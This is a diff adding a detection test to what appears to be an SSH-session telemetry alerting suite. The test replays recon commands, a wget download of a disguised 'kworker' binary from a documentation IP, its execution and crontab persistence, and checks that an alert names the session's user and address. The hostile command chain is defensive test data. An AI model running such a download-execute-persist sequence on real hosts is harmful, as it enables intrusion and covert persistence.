@@ -152,4 +152,24 @@ describe("host telemetry through ingest (PRC, MIN)", () => {
       await server.close();
     }
   });
+
+  test("LOG-8 an SSH logon followed by recon, download, execute and persistence in its session alerts, naming the session's account and address", async () => {
+    const { server, clock, send, alerts, proc } = await setup();
+    try {
+      const session = { sshdPid: 900, user: "deploy", sourceIp: "203.0.113.9" };
+      const steps = ["uname -a", "cat /proc/cpuinfo", "wget -q http://203.0.113.7/kworker -O /tmp/kworker", "chmod +x /tmp/kworker", "/tmp/kworker", "crontab /tmp/c"];
+      for (const [i, cmd] of steps.entries()) {
+        clock.advance(30_000);
+        await send([{ ...proc({ pid: 1000 + i, name: cmd.split(" ")[0]!.split("/").pop()!, cmd }), session }]);
+      }
+      const [a] = await alerts("suspicious_ssh_session");
+      assert.ok(a, "the session is alerted");
+      assert.deepEqual(a!.evidence["session"], session);
+      // an admin's session with only recon commands is not
+      for (const [i, cmd] of ["uname -a", "id", "df -h", "free -m"].entries()) await send([{ ...proc({ pid: 2000 + i, name: cmd.split(" ")[0]!, cmd }), session: { sshdPid: 901, user: "alice" } }]);
+      assert.equal((await alerts("suspicious_ssh_session")).length, 1);
+    } finally {
+      await server.close();
+    }
+  });
 });
